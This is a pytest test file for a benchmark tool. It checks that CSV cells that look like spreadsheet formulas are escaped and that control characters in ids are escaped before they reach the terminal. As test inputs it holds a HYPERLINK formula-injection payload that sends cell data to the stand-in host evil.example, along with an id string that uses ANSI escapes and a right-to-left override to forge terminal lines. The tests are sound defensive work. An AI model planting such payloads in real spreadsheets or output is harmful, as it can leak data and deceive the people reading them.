"""Outputs are inert (issue 23 item 6): no CSV cell a spreadsheet would run, no control character from an id that
would drive the terminal."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from benchmark.cli import main
from benchmark.evidence import summary as summary_module
from benchmark.outputs import spreadsheet_safe, terminal_safe
from tests.test_cohort_manifest import entry, paired_entries, write_manifest

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


def test_numbers_and_ordinary_text_are_written_unchanged() -> None:
    assert [spreadsheet_safe(v) for v in (-0.25, 3, "plain-ct-kd", "ct kd = good")] == [
        -0.25, 3, "plain-ct-kd", "ct kd = good"]


def test_summary_csv_neutralises_a_configuration_named_like_a_formula(tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    frame = pd.DataFrame({"configuration": [FORMULA, "student-only"], "val_balanced_accuracy_mean": [-0.5, 0.75]})
    monkeypatch.setattr(summary_module, "summary_frame", lambda records: frame)
    path = summary_module.write_summary([], tmp_path / "summary.csv")
    written = pd.read_csv(path)
    assert list(written["configuration"]) == ["'" + FORMULA, "student-only"]
    assert list(written["val_balanced_accuracy_mean"]) == [-0.5, 0.75]


def test_cohorts_prints_control_characters_of_ids_as_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CTXRAY_CACHE", str(tmp_path / "cache"))
    hostile = "p\x1b[31mRED\nforged line\u202e"
    rows = [*paired_entries(), entry(hostile, "xray", 1, "img/absent.png")]
    manifest = write_manifest(tmp_path / "c", rows, images=True)
    (tmp_path / "c" / "img" / "absent.png").unlink()
    assert main(["cohorts", "--cohort", str(manifest), "--list-skipped"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\nforged line" not in out
    assert "p\\x1b[31mRED\\nforged line\\u202e" in out


def test_terminal_safe_keeps_printable_text_and_escapes_the_rest() -> None:
    assert terminal_safe("patient é 1") == "patient é 1"
    assert terminal_safe("a\x07b\x00c", keep_newlines=False) == "a\\x07b\\x00c"
